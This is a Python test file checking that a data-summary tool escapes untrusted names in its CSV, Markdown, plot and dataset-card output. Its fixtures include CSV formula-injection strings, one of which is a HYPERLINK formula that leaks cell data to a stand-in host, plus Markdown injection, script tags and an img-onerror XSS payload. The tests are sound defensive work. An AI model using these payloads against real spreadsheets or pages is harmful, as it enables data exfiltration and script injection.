"""Text from outside files is written as data: no spreadsheet formula, no extra Markdown row or
heading, no mathtext in plots, no markup in the card."""

from __future__ import annotations

import csv
import io
import re
import sys
from pathlib import Path

import pytest

from canvas_data.atomic import write_json
from canvas_data.escape import csv_cell, markdown_cell, plot_text
from canvas_data.metrics.summarize import summarize

sys.path.insert(0, str(Path(__file__).parent / "metrics"))
from test_sequence import result  # noqa: E402

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "esd |fake| row\n| evil | 1 | 2 |\n# Heading\n---",
    r"$\foo$ and $x^2$",
    "<script>alert(1)</script> [link](http://evil.example) `code` *bold*",
    "\tTabbed",
]


def markdown_rows(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")]


def cell_count(row: str) -> int:
    """Cells of a Markdown table row: its pipes that no backslash escapes, less one."""
    return len(re.findall(r"(?<!\\)\|", row)) - 1


@pytest.mark.parametrize("method", HOSTILE)
def test_summarize_writes_hostile_method_names_as_data(tmp_path, method):
    path = tmp_path / "r.json"
    write_json(path, result("Van_Gogh", "style", (1, 2, 3, 4), (1, 2, 3), method=method))
    written = summarize([path], tmp_path / "table")  # also draws the heat map: no mathtext
    md = written["markdown"].read_text()
    rows = markdown_rows(md)
    assert len(rows) == 3, md  # header, rule, one method: no row added
    assert not any(line.startswith(("#", "---", "<")) for line in md.splitlines()), md
    assert cell_count(rows[2]) == cell_count(rows[0]), md  # no extra cells
    assert "<script>" not in md
    cells = list(csv.reader(io.StringIO(written["csv"].read_text())))
    method_cell = cells[1][0]
    assert not method_cell.startswith(("=", "+", "-", "@", "\t", "\r")), method_cell
    assert method_cell.lstrip("'") == method
    assert any(p.suffix == ".png" for p in written.values())


@pytest.mark.parametrize("target", [r"$\foo$", "=1+1", "a|b\nc"])
def test_sequence_outputs_escape_target_names(tmp_path, target):
    files = []
    for i, (tgt, domain) in enumerate([(target, "style"), ("Monet", "style")], 1):
        data = result(tgt, domain, (1, 2, 3, 4), (1, 2, 3), method=f"$\\bar$ {i}")
        data["method"] = r"$\bar$"
        data["themes"] = [target, "Monet", "Winter", "Seed_Images"]
        data["style_accuracy"] = dict(
            zip(data["themes"], data["style_accuracy"].values(), strict=True)
        )
        files.append(tmp_path / f"s{i}.json")
        write_json(files[-1], data)
    written = summarize([], tmp_path / "out", sequences=[files])
    md = next(p for k, p in written.items() if str(p).endswith(".md") and "sequence" in k)
    rows = markdown_rows(md.read_text())
    assert len(rows) == 4 and len({cell_count(r) for r in rows}) == 1, rows
    table = next(p for k, p in written.items() if str(p).endswith(".csv") and "sequence" in k)
    for row in csv.reader(io.StringIO(table.read_text())):
        assert not any(c.startswith(("=", "+", "-", "@")) for c in row), row


def test_helpers_keep_plain_names_unchanged():
    for name in ("ESD", "esd_v1.0", "Van_Gogh", "salun-2"):
        assert csv_cell(name) == markdown_cell(name) == plot_text(name) == name
    assert csv_cell(-1.5) == -1.5  # numbers are no formulas
    assert markdown_cell("a\nb|c") == "a b\\|c"


@pytest.mark.parametrize(
    "name",
    ["tiny\n---\n# Injected", "a`b", "x | y", "<b>x</b>", "=cmd", "", "n" * 101, "tab\tname"],
)
def test_recipe_name_outside_its_alphabet_is_refused_in_one_line(tmp_path, name):
    import yaml

    from canvas_data.recipe import load_recipe

    path = tmp_path / "r.yaml"
    path.write_text(yaml.safe_dump({"extends": "demo", "name": name}))
    with pytest.raises(ValueError) as err:
        load_recipe(path)
    assert "name" in str(err.value) and "\n" not in str(err.value).strip()


@pytest.mark.parametrize(
    "field, value",
    [("pretty_name", "Title\n---\n# x"), ("license", "cc-by\n---"), ("pretty_name", "a\rb")],
)
def test_one_line_recipe_fields_refuse_newlines(tmp_path, field, value):
    import yaml

    from canvas_data.recipe import load_recipe

    path = tmp_path / "r.yaml"
    path.write_text(yaml.safe_dump({"extends": "demo", field: value}))
    with pytest.raises(ValueError, match=field):
        load_recipe(path)


def test_card_description_is_text_not_markup(tmp_path):
    import yaml

    from canvas_data.card.fields import markdown_text

    text = "Line one\n---\n# Heading\n<img src=x onerror=alert(1)>"
    out = markdown_text(text)
    assert "\n" not in out and "<img" not in out and not out.startswith("#")
    assert yaml.safe_load(yaml.safe_dump({"d": text}))["d"] == text  # the YAML header round-trips
